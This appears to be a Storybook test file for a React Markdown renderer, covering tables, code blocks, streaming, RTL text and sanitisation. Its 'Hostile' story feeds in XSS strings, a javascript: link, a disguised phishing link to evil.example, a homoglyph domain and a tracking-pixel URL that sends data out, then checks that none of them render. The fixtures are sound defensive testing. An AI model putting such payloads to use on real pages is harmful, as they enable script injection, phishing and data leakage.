import type { Meta, StoryObj } from '@storybook/react-vite';
import { ComponentsProvider, Markdown } from 'assistants-react';
import { expect } from 'storybook/test';
import { richMarkdown } from '../fixtures.js';

const meta = {
  component: Markdown,
  args: { text: richMarkdown },
  render: (args) => (
    <div style={{ maxInlineSize: '46rem', marginInline: 'auto' }}>
      <Markdown {...args} />
    </div>
  ),
} satisfies Meta<typeof Markdown>;

export default meta;
type Story = StoryObj<typeof meta>;

export const Everything: Story = {};

/** Tables are copied, and code is wrapped, with buttons that appear where one points. */
export const BlockActions: Story = {
  args: {
    text: '| City | High |\n|---|--:|\n| Oslo | 12 |\n| Rome | 24 |\n\n```sh\nnpm create assistants-app@latest -- --template next --name weather --directory ./apps/weather --no-install --no-git\n```',
  },
  play: async ({ canvas, userEvent }) => {
    await userEvent.hover(canvas.getByRole('table'));
    await expect(await canvas.findByRole('button', { name: 'Copy table' })).toBeInTheDocument();
    const wrap = await canvas.findByRole('button', { name: 'Wrap long lines' });
    await userEvent.click(wrap);
    await expect(wrap).toHaveAttribute('aria-pressed', 'true');
  },
};

/** Half a table, half a link, half a word in bold: nothing of it flickers. */
export const Growing: Story = {
  args: { text: `${richMarkdown.slice(0, 330)}\n\nand **half of`, isStreaming: true },
  play: async ({ canvas }) => {
    const last = canvas.getByText('half of').closest('p') as HTMLElement;
    // The caret follows what has come last, and nowhere else.
    await expect(getComputedStyle(last, '::after').content).not.toBe('none');
    await expect(getComputedStyle(canvas.getByText(/^Here is a/), '::after').content).toBe('none');
  },
};

export const GrowingTable: Story = {
  args: { text: 'Here it is:\n\n| City | High |', isStreaming: true },
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('columnheader', { name: 'High' })).toBeVisible();
  },
};

/** Nothing is loaded, followed or run. */
export const Hostile: Story = {
  args: {
    text: [
      'Look: ![chart](https://tracker.example/pixel.png?data=secret)',
      '[click me](javascript:alert(1)), [paypal.com](https://evil.example/login), [Apple](https://аpple.com/)',
      '<img src=x onerror=alert(1)> <script>alert(1)</script>',
      '[report.csv](sandbox:/mnt/data/report.csv)',
    ].join('\n\n'),
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvasElement.querySelector('img, script')).toBeNull();
    await expect(canvas.getByText('evil.example')).toBeVisible();
  },
};

export const AllowedImages: Story = {
  args: { text: 'An image of an allowed host:\n\n![a grey square](https://allowed.example/a.png)' },
  render: (args) => (
    <ComponentsProvider allowImage={(url) => url.host === 'allowed.example'}>
      <Markdown {...args} />
    </ComponentsProvider>
  ),
};

export const WideTableAndLongWords: Story = {
  args: {
    text: `| ${Array.from({ length: 14 }, (_, column) => `Column ${column + 1}`).join(' | ')} |\n|${'---|'.repeat(14)}\n| ${Array.from({ length: 14 }, (_, column) => `value ${column}`).join(' | ')} |\n\n${'a'.repeat(400)}\n\n\`\`\`\n${'const wide = true; '.repeat(20)}\n\`\`\``,
  },
};

/** Beyond 64 levels a text is shown as it stands. */
export const TooDeep: Story = { args: { text: `${'> '.repeat(80)}deep` } };

export const RightToLeft: Story = {
  args: {
    text: 'خطة **قصيرة** لثلاثة أيام في لشبونة:\n\n1. الإفطار قرب القلعة\n2. الكاتدرائية ثم النهر\n\n> أفضل وقت قبل الغروب بساعة.\n\nUse `tram 28E` and read [المزيد](https://example.org/).',
  },
  render: (args) => (
    <div dir="rtl">
      <Markdown {...args} />
    </div>
  ),
};
